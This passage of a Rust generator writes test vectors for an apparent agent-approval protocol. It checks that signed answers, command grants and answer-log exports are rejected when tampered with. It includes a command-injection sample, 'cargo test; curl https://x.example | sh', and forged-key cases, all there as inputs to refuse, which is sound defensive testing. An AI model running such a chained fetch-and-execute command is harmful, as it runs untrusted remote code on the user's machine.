                g.sign(SIGNING_SEED);
            },
        ),
        reject_grant(
            "scope widened: an exact grant's match made prefix (offered, not what was signed)",
            "bad_signature",
            |g| {
                *g = gate_grant(CommandMatch::Exact, 3600);
                g.grant.scope.matching = Some(CommandMatch::Prefix);
            },
        ),
        reject_grant("scope widened: the folder's parent (/work)", "scope_not_offered", |g| {
            g.grant.scope.folder = "/work".into();
        }),
        reject_grant("expiry extended within the offer (15 min to 1 h)", "bad_signature", |g| {
            g.grant.expires_at = g.granted_at.plus_millis(3_600_000);
        }),
        reject_grant(
            "expiry extended beyond the offer (1 h and 1 ms), signed again by the device",
            "too_long",
            |g| {
                g.grant.expires_at = g.granted_at.plus_millis(3_600_001);
                g.sign(SIGNING_SEED);
            },
        ),
        reject_grant("expiry: ends when it starts", "too_long", |g| {
            g.grant.expires_at = g.granted_at;
        }),
        reject_grant("another agent (ag_other)", "bad_signature", |g| {
            g.agent_id = "ag_other".into();
        }),
        reject_grant(
            "another device (presented as dv_tablet's, checked with its key)",
            "bad_signature",
            |g| {
                g.device_id = TABLET_ID.into();
                g.public_key = Some(signing_key(counting(0x80)).public_key());
            },
        ),
        reject_grant("another question id (qst_deploy)", "bad_signature", |g| {
            g.question_id = "qst_deploy".into();
        }),
        reject_grant(
            "another question digest (qst_deploy's)",
            "bad_signature",
            |g| g.question_digest = deploy_digest.clone(),
        ),
        reject_grant("grantedAt one millisecond later", "bad_signature", |g| {
            g.granted_at = g.granted_at.plus_millis(1);
        }),
        reject_grant("another policy digest in the grant", "other_policy", |g| {
            g.grant.policy = other_policy.clone();
        }),
        reject_grant(
            "another policy digest in the grant and in the offer alike",
            "bad_signature",
            |g| {
                g.grant.policy = other_policy.clone();
                g.offer.as_mut().expect("offered").policy = other_policy.clone();
            },
        ),
        reject_grant("signature: one bit flipped", "bad_signature", |g| {
            let mut bytes = b64::decode(&g.grant.signature).expect("a signature");
            bytes[0] ^= 0x01;
            g.grant.signature = b64::encode(&bytes);
        }),
        reject_grant("signature: padded base64url", "bad_signature", |g| {
            g.grant.signature.push_str("==");
        }),
        reject_grant("signature: by another key", "bad_signature", |g| {
            g.sign(counting(0xa0));
        }),
        reject_grant("the question offered no grant", "not_offered", |g| {
            g.offer = None;
        }),
        reject_grant("no signing key pinned for the device", "no_key", |g| {
            g.public_key = None;
        }),
        reject_grant_export("grant: scope widened, another tool (shell)", None, "g8", |e| {
            e.grants[0].given.grant.scope.tool = "shell".into();
        }),
        reject_grant_export("grant: scope widened, the command cut to cargo", None, "g8", |e| {
            e.grants[0].given.grant.scope.command = Some("cargo".into());
        }),
        reject_grant_export(
            "grant: scope changed, prefix made exact (offered, not what was signed)",
            None,
            "g11",
            |e| e.grants[0].given.grant.scope.matching = Some(CommandMatch::Exact),
        ),
        reject_grant_export("grant: scope widened to the folder's parent", None, "g8", |e| {
            e.grants[0].given.grant.scope.folder = "/work".into();
        }),
        reject_grant_export(
            "grant: expiry extended within the offer (15 min to 1 h)",
            None,
            "g11",
            |e| e.grants[0].given.grant.expires_at = time("2026-11-30T06:10:00.000Z"),
        ),
        reject_grant_export(
            "grant: expiry extended beyond the offer (1 h and 1 ms)",
            None,
            "g10",
            |e| e.grants[0].given.grant.expires_at = time("2026-11-30T06:10:00.001Z"),
        ),
        reject_grant_export("grant: another policy digest", None, "g9", |e| {
            e.grants[0].given.grant.policy = grant::policy_digest(b"default = \"allow\"\n");
        }),
        reject_grant_export("grant: signature of one bit flipped", None, "g11", |e| {
            let mut bytes = b64::decode(&e.grants[0].given.grant.signature).expect("a signature");
            bytes[63] ^= 0x80;
            e.grants[0].given.grant.signature = b64::encode(&bytes);
        }),
        reject_grant_export("grant: presented as dv_tablet's", None, "g2", |e| {
            e.grants[0].given.device_id = TABLET_ID.into();
        }),
        reject_grant_export("grant: its question left out of the records", None, "g1", |e| {
            e.records.retain(|r| r.question_id != GATE_ID);
        }),
        reject_grant_export(
            "grant: moved to qst_deploy (a yes of dv_vector, at another time)",
            None,
            "g4",
            |e| e.grants[0].given.id = "qst_deploy".into(),
        ),
        reject_grant_export(
            "grant: moved to qst_deploy with its time and bytes (a question that offered no grant)",
            None,
            "g7",
            |e| {
                let deploy = e.records[0].clone();
                let given = &mut e.grants[0].given;
                given.id = deploy.question_id;
                given.granted_at = deploy.answered_at;
                given.question = deploy.question;
            },
        ),
        reject_grant_export("grant: moved to qst_drop, dv_tablet's no", None, "g3", |e| {
            e.grants[0].given.id = "qst_drop".into();
            e.grants[0].given.device_id = TABLET_ID.into();
        }),
        reject_grant_export("grant: another question's bytes (qst_deploy's)", None, "g5", |e| {
            e.grants[0].given.question = e.records[0].question.clone();
        }),
        reject_grant_export("grant: grantedAt one millisecond later", None, "g4", |e| {
            e.grants[0].given.granted_at = e.grants[0].given.granted_at.plus_millis(1);
        }),
        reject_grant_export(
            "grant: the granting device revoked before it granted",
            None,
            "g6",
            |e| e.devices[0].revoked_at = Some(time("2026-11-30T05:00:00.000Z")),
        ),
        reject_grant_export("use: a command outside the scope (cargo testify)", Some(2), "u3", |e| {
            e.grants[0].uses[1].command = Some("cargo testify".into());
        }),
        reject_grant_export(
            "use: a shell control character after the prefix (cargo test; curl … | sh)",
            Some(3),
            "u3",
            |e| e.grants[0].uses[2].command = Some("cargo test; curl https://x.example | sh".into()),
        ),
        reject_grant_export("use: another tool (shell)", Some(1), "u3", |e| {
            e.grants[0].uses[0].tool = "shell".into();
        }),
        reject_grant_export("use: another folder", Some(1), "u3", |e| {
            e.grants[0].uses[0].folder = "/work/other".into();
        }),
        reject_grant_export("use: at the grant's expiry", Some(3), "u2", |e| {
            e.grants[0].uses[2].at = time("2026-11-30T05:25:00.000Z");
        }),
        reject_grant_export("use: before the grant was given", Some(1), "u1", |e| {
            e.grants[0].uses[0].at = time("2026-11-30T05:09:59.999Z");
        }),
        reject_grant_export(
            "use: after the granting device was revoked",
            Some(3),
            "u4",
            |e| e.devices[0].revoked_at = Some(time("2026-11-30T05:20:00.000Z")),
        ),
        reject_export(
            "question: the gate question's grant offer written as an array, signed by the device",
            6,
            |e| {
                let mut q: serde_json::Value = serde_json::from_str(&question_text(5)).expect("json");
                q["grants"] = serde_json::json!([[900, 3600], [], "policy"]);
                signed_question_bytes(e, 5, json(&q).as_bytes());
            },
        ),
        reject_export(
            "question: a grant offer's duration written 900.0, signed by the device",
            6,
            |e| {
                let mut q: serde_json::Value = serde_json::from_str(&question_text(5)).expect("json");
                q["grants"]["durations"][0] = serde_json::json!(900.0);
                signed_question_bytes(e, 5, json(&q).as_bytes());
            },
        ),
        reject_export("approvals: one of two dropped", 7, |e| {
            e.records[6].approvals.remove(0);
        }),
        reject_export("approvals: the same device listed twice", 7, |e| {
            let again = e.records[6].approvals[1].clone();
            e.records[6].approvals[0] = again;
        }),
        reject_export("approvals: the first device's signature moved to the second", 7, |e| {
            let moved = e.records[6].approvals[0].signature.clone();
            e.records[6].approvals[1].signature = moved;
        }),
        reject_export("approvals: a signature with one byte changed", 7, |e| {
            let a = &mut e.records[6].approvals[0];
            let mut raw = b64::decode(&a.signature).expect("b64");
            raw[0] ^= 1;
            a.signature = b64::encode(&raw);
        }),
        reject_export("approvals: an approving device revoked before it answered", 7, |e| {
            e.devices[3].revoked_at = Some(time("2026-11-30T06:00:00.000Z"));
        }),
        reject_export("approvals: listed on a record whose question needs one", 1, |e| {
            e.records[0].approvals = e.records[6].approvals.clone();
        }),
        reject_export("answer: yes changed to no (approved false to match)", 1, |e| {
            e.records[0].answer = Answer::No;
            e.records[0].approved = false;
        }),
        reject_export("answer: the chosen options reordered", 2, |e| {
            e.records[1].answer = Answer::Options(vec!["eu-west".into(), "us-east".into()]);
        }),
        reject_export("answer: one character of the text changed", 3, |e| {
            e.records[2].answer = Answer::Text("Bravo à tous — déploiement réussi ✓ 🚂".into());
        }),
        reject_export("answer: an option the question does not offer", 2, |e| {
            e.records[1].answer = Answer::Options(vec!["us-east".into(), "sa-east".into()]);
        }),
        reject_export("question text changed, digest recomputed", 1, |e| {
            rewrite_question(e, 0, |q| q.question = "Drop the production database?".into());
        }),
        reject_export("question text changed, digest kept", 4, |e| {
            let mut bytes = b64::decode(&e.records[3].question).expect("own question");
            let text = String::from_utf8(bytes.clone())
                .expect("utf-8")
                .replace("staging", "prod-eu");
            bytes = text.into_bytes();
            e.records[3].question = b64::encode(&bytes);
        }),
        reject_export("question: expiry extended, digest recomputed", 3, |e| {
            rewrite_question(e, 2, |q| q.expires_at = time("2026-12-30T03:00:00.000Z"));
        }),
        reject_export(
            "question: bytes that are not a question, digest recomputed",
            2,
            |e| {
                let bytes = br#"{"question":"Which regions get the release first?"}"#;
                e.records[1].question = b64::encode(bytes);
                e.records[1].question_digest = question_digest(bytes);
            },
        ),
        reject_export("question: padded base64url", 3, |e| {
            e.records[2].question.push('=');
        }),
        reject_export("time: answeredAt one millisecond later", 2, |e| {
            e.records[1].answered_at = e.records[1].answered_at.plus_millis(1);
        }),
        reject_export("time: answeredAt moved to the question's expiry", 4, |e| {
            e.records[3].answered_at = time("2026-11-30T04:00:00.000Z");
        }),
        reject_export(
            "device key: dv_tablet's key replaced everywhere (fingerprint too)",
            3,
            |e| {
                e.devices[1].signing_key = Some(stranger_b64.clone());
                e.devices[1].fingerprint = Some(stranger.fingerprint());
                for r in e.records.iter_mut().filter(|r| r.device_id == TABLET_ID) {
                    r.signing_key = Some(stranger_b64.clone());
                }
            },
        ),
        reject_export("device key: replaced in the record only", 4, |e| {
            e.records[3].signing_key = Some(stranger_b64.clone());
        }),
        reject_export("device key: removed from the device", 1, |e| {
            e.devices[0].signing_key = None;
        }),
        reject_export("device key: 31 bytes, in the device and the record", 3, |e| {
            let short = b64::encode(&[0x42; 31]);
            e.devices[1].signing_key = Some(short.clone());
            for r in e.records.iter_mut().filter(|r| r.device_id == TABLET_ID) {
                r.signing_key = Some(short.clone());
            }
        }),
        reject_export("device key: fingerprint of another key", 1, |e| {
            e.devices[0].fingerprint = Some(stranger.fingerprint());
        }),
        reject_export(
            "device: the answer presented as dv_tablet's (its key in the record)",
            1,
            |e| {
                e.records[0].device_id = TABLET_ID.into();
                e.records[0].signing_key = e.devices[1].signing_key.clone();
            },
        ),
        reject_export(
            "device: answered by a device not in the question's recipients",
            2,
            |e| {
                e.records[1].device_id = TABLET_ID.into();
                e.records[1].signing_key = e.devices[1].signing_key.clone();
            },
        ),
        reject_export("device: the answering device left out of the devices", 3, |e| {
            e.devices.remove(1);
        }),
        reject_export("approved: a no marked approved", 4, |e| {
            e.records[3].approved = true;
        }),
        reject_export("approved: a yes marked not approved", 1, |e| {
            e.records[0].approved = false;
        }),
        reject_export("signature removed", 2, |e| {
            e.records[1].signature = None;
        }),
        reject_export("signature of record 3 moved to record 4", 4, |e| {
            e.records[3].signature = e.records[2].signature.clone();
        }),
        reject_export("agent: another agentId", 1, |e| {
            e.agent_id = "ag_other".into();
        }),
        reject_export("question id changed", 3, |e| {
            e.records[2].question_id = "qst_other".into();
        }),
        reject_export("header: format v 2", 0, |e| {
            e.v = 2;
        }),
        reject_export(
            "devices: a key of one's own listed before each genuine entry (every record signed with it, the no \
             made a yes)",
            0,
            |e| {
                let own = signing_key(counting(0xa0));
                for record in &mut e.records {
                    if record.answer == Answer::No {
                        record.answer = Answer::Yes;
                        record.approved = true;
                    }
                    sign_record(record, &own);
                }
                let forged: Vec<ExportDevice> = e
                    .devices
                    .iter()
                    .filter(|d| e.records.iter().any(|r| r.device_id == d.device_id))
                    .map(|d| ExportDevice {
                        signing_key: Some(own.public_key().to_b64()),
                        fingerprint: Some(own.public_key().fingerprint()),
                        ..d.clone()
                    })
                    .collect();
                e.devices.splice(0..0, forged);
            },
        ),
        reject_export(
            "question: the member question given twice, signed by the device",
            1,
            |e| {
                let text = question_text(0).replacen('{', r#"{"question":"Drop the production database?","#, 1);
                signed_question_bytes(e, 0, text.as_bytes());
            },
        ),
        reject_export(
            "question: a member name given twice inside an unknown member, signed by the device",
            2,
            |e| {
                let text = question_text(1).replacen('{', r#"{"note":{"k":1,"k":2},"#, 1);
                signed_question_bytes(e, 1, text.as_bytes());
            },
        ),
        reject_export(
            "question: a JSON array in place of the object, signed by the device",
            4,
            |e| {
                let text = r#"["Drop the staging database?","yes_no",[],false,"staging-eu, 41 GB","2026-11-30T04:00:00.000Z",["dv_tablet"]]"#;
                signed_question_bytes(e, 3, text.as_bytes());
            },
        ),
        reject_export(
            "question: options null in a yes_no question, signed by the device",
            1,
            |e| {
                let text = question_text(0).replacen('{', r#"{"options":null,"#, 1);
                signed_question_bytes(e, 0, text.as_bytes());
            },
        ),
        reject_export(
            "question: expiresAt a leap second (23:59:60), signed by the device",
            3,
            |e| {
                let text = question_text(2).replace("2026-11-30T03:00:00.000Z", "2026-11-30T23:59:60.000Z");
                signed_question_bytes(e, 2, text.as_bytes());
            },
        ),
        accept_export("times: answeredAt with a lower-case t and z", |e| {
            e["records"][0]["answeredAt"] = "2026-11-30t00:41:02.003z".into();
        }),
        accept_export("times: answeredAt with two fractional digits", |e| {
            e["records"][1]["answeredAt"] = "2026-11-30T01:15:00.25Z".into();
        }),
        accept_export("times: answeredAt with no fractional digits", |e| {
            e["records"][3]["answeredAt"] = "2026-11-30T02:00:00Z".into();
        }),
        accept_export(
            "times: answeredAt with six fractional digits, truncated (rounding gives another millisecond)",
            |e| {
                e["records"][0]["answeredAt"] = "2026-11-30T00:41:02.003999Z".into();
            },
        ),
        accept_export("times: answeredAt with the offset -00:00", |e| {
            e["records"][2]["answeredAt"] = "2026-11-30T01:30:00.999-00:00".into();
        }),
        accept_export(
            "times: answeredAt with the offset +01:00 (the signature covers the instant)",
            |e| {
                e["records"][0]["answeredAt"] = "2026-11-30T01:41:02.003+01:00".into();
            },
        ),
        accept_export("answer: a yes written with value null", |e| {
            e["records"][0]["answer"] = serde_json::json!({"type": "yes", "value": null});
        }),
        accept_export(
            "times: a grant's grantedAt, expiresAt and a use's time with other offsets and forms",
            |e| {
                e["grants"][0]["grantedAt"] = "2026-11-30T06:10:00.000+01:00".into();
                e["grants"][0]["grant"]["expiresAt"] = "2026-11-30t05:25:00z".into();
                e["grants"][0]["uses"][0]["at"] = "2026-11-30T05:12:00Z".into();
            },
        ),
        reject_edited(
            "shape: a grant's scope written as an array",
            0,
            "shape",
            Some(edited_export(|e| {
                e["grants"][0]["grant"]["scope"] = serde_json::json!(["Bash", "cargo test", "prefix", GATE_FOLDER]);
            })),
            None,
        ),
        reject_edited(
            "shape: a use without its folder",
            0,
            "shape",
            Some(edited_export(|e| {
                e["grants"][0]["uses"][0]
                    .as_object_mut()
                    .expect("a use")
                    .remove("folder");
            })),
            None,
        ),
        reject_edited(
            "shape: a grant's match neither exact nor prefix (glob)",
            0,
            "shape",
            Some(edited_export(|e| {
                e["grants"][0]["grant"]["scope"]["match"] = "glob".into();
            })),
            None,
        ),
        reject_edited(
            "shape: a grant's uses null",
            0,
            "shape",
            Some(edited_export(|e| e["grants"][0]["uses"] = serde_json::Value::Null)),
            None,
        ),
        reject_edited(
            "shape: v written 1.0",
            0,
            "shape",
            Some(edited_export(|e| e["v"] = serde_json::json!(1.0))),
            None,
        ),
        reject_edited(
            "shape: a yes with a value",
            0,
            "shape",
            Some(edited_export(|e| {
                e["records"][0]["answer"] = serde_json::json!({"type": "yes", "value": true});
            })),
            None,
        ),
        reject_edited(
            "shape: a text answer written as an array",
            0,
            "shape",
            Some(edited_export(|e| {
                e["records"][2]["answer"] = serde_json::json!(["text", "Bravo à tous — déploiement réussi ✓ 🚀"]);
            })),
            None,
        ),
        reject_edited(
            "shape: answeredAt a leap second (23:59:60)",
            0,
            "shape",
            Some(edited_export(|e| {
                e["records"][3]["answeredAt"] = "2026-11-30T23:59:60.000Z".into();
            })),
            None,
        ),
        reject_edited(
            "shape: answeredAt with a space for the T",
            0,
            "shape",
            Some(edited_export(|e| {
                e["records"][0]["answeredAt"] = "2026-11-30 00:41:02.003Z".into();
            })),
            None,
        ),
        reject_edited(
            "shape: answeredAt without an offset",
            0,
            "shape",
            Some(edited_export(|e| {
                e["records"][0]["answeredAt"] = "2026-11-30T00:41:02.003".into();
            })),
            None,
        ),
        reject_edited(
            "shape: answeredAt with the offset +0100 (no colon)",
            0,
            "shape",
            Some(edited_export(|e| {
                e["records"][0]["answeredAt"] = "2026-11-30T01:41:02.003+0100".into();
            })),
            None,
        ),
        reject_edited(
            "shape: a record gives answer twice, a yes then the signed no",
            0,
            "shape",
            None,
            Some(
                serde_json::to_string(&good_export())
                    .expect("json")
                    .replacen(r#""answer":{"type":"no"}"#, r#""answer":{"type":"yes"},"answer":{"type":"no"}"#, 1),
            ),
        ),
        reject_edited(
            "shape: an unknown member given twice",
            0,
            "shape",
            None,
            Some(
                serde_json::to_string(&good_export())
                    .expect("json")
                    .replacen('{', r#"{"exportedBy":"ops","exportedBy":"ops","#, 1),
            ),
        ),
    ]);
    File {
        description: "Device signing keys, signed answers, grants and the answer-log export (docs/crypto.md \
                      §4.8, §4.8b, §4.9). signingKey cases: the Ed25519 (RFC 8032) seed gives publicKey (32 bytes) and fingerprint \
                      (the first 12 bytes of SHA-256(publicKey) in lower-case hex, six groups of four separated \
                      by spaces). signedAnswer cases: the fields build signedBytesHex = \"pacerelle/v1/answer-\
                      signature\" || 0x01 || field(agentId) || field(deviceId) || field(questionId) || \
                      field(questionDigest) || field(answeredAt) || field(type) || u32(n) || field(value)..., \
                      field(x) = u32 big-endian byte length || UTF-8(x); signature is the Ed25519 signature of \
                      those bytes with seed (deterministic). sealedSigningKey: payloadJson sealed with the device \
                      key, the nonce and aad (agentId, deviceId, \"d2a\", \"signing_key\", deviceId) gives \
                      envelope. rejectSigningKey: the agent opening envelope as deviceId's key, with clear listed \
                      beside it, refuses it: invalid (does not open, or names another agent, device or version, \
                      or a key not 32 bytes) or substituted (the clear copy differs). signedGrant (§4.8b): the \
                      fields build signedBytesHex = \"pacerelle/v1/grant-signature\" || 0x01 || field(agentId) || \
                      field(deviceId) || field(questionId) || field(questionDigest) || field(grantedAt) || \
                      field(grant.expiresAt) || field(grant.policy) || field(scope.tool) || field(scope.command) \
                      || field(scope.match) || field(scope.folder) (times in the wire form, command and match \
                      empty when absent); grant.signature is the Ed25519 signature of those bytes with seed, and \
                      the grant passes the agent's check against offer (the offer of the agent's own copy of the \
                      question) with publicKey. rejectGrant: the agent's check of grant against offer (null: none \
                      offered), the signed fields and publicKey (null: no key pinned) refuses it with refusal \
                      (not_offered, scope_not_offered, other_policy, too_long, no_key, bad_signature); reason is \
                      the Rust implementation's wording. export: every record and every grant verifies (some are \
                      written with times in other RFC 3339 forms). rejectExport: verification fails first at \
                      record index (from 1; 0 for the document as a whole or a grant) at step of §4.9 (shape: not \
                      JSON of the export's shape, read from exportText when the vector gives it; 0: the header; \
                      0a: a device listed twice, deviceId; 1 to 14 and q1 to q5: the record's checks; g1 to g11: the checks of \
                      grant, from 1; u1 to u4: the checks of that grant's use, from 1); reason is the Rust \
                      implementation's wording. All binary values are base64url without padding.",
        cases,
    }
}

/// The agent's verdicts with signing keys, apart from `signature.json`, whose other cases a device implements.
fn verdict_file() -> File<SignatureCase> {
    File {
        description: "The agent's verdict on a signed or unsigned answer (docs/crypto.md §4.7 with step 6a, §4.8). \
                      signedVerdict: the agent opens ownEnvelope (its own copy of questionId) with selfKey, the \
                      relay reports the question answered by deviceId at answeredAt with answerEnvelope (sealed \
                      with deviceKey), the roster pins pinnedKey as that device's signing key (null: none), marks \
                      that the agent refused a key of that device (signingKeyRefused, absent: false) or that it \
                      requires signed answers (requireSigned, absent: false), and lets mayApprove approve, the \
                      agent's clock says now. The verdict reaches state and \
                      approved; signed is whether it was accepted with a signature that verified; \
                      rejectedAtStep is \"6a\" for the signature's check, else the number of the failing check \
                      of §4.7, and rejected the Rust implementation's wording. The verdict cases of \
                      question.json pin no key and carry no signature.",
        cases: signed_verdict_cases(),
    }
}

// ----------------------------------------------------------------------------------------------- main

fn render<T: Serialize>(file: &File<T>) -> String {
    let mut text = serde_json::to_string_pretty(file).expect("vectors serialise");
    text.push('\n');
    text
}

fn file(name: &str) -> Option<String> {
    Some(match name {
        "token" => render(&token_file()),
        "kdf" => render(&kdf_file()),
        "pairing" => render(&pairing_file()),
        "envelope" => render(&envelope_file()),
        "cursor" => render(&cursor_file()),
        "question" => render(&question_file()),
        "roster" => render(&roster_file()),
        "signature" => render(&signature_file()),
        "verdict" => render(&verdict_file()),
        _ => return None,
    })
}

const NAMES: [&str; 9] = [
    "token",
    "kdf",
    "pairing",
    "envelope",
    "cursor",
    "question",
    "roster",
    "signature",
    "verdict",
];

fn main() {
    let arg = std::env::args().nth(1).unwrap_or_default();
    if arg == "--write" {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/vectors");
        for name in NAMES {
            let path = dir.join(format!("{name}.json"));
            std::fs::write(&path, file(name).expect("known name")).expect("vectors file is writable");
            eprintln!("wrote {}", path.display());
        }
    } else if let Some(text) = file(&arg) {
        print!("{text}");
    } else {
        eprintln!("usage: make_vectors <{}> | --write", NAMES.join("|"));
        std::process::exit(2);
    }
}
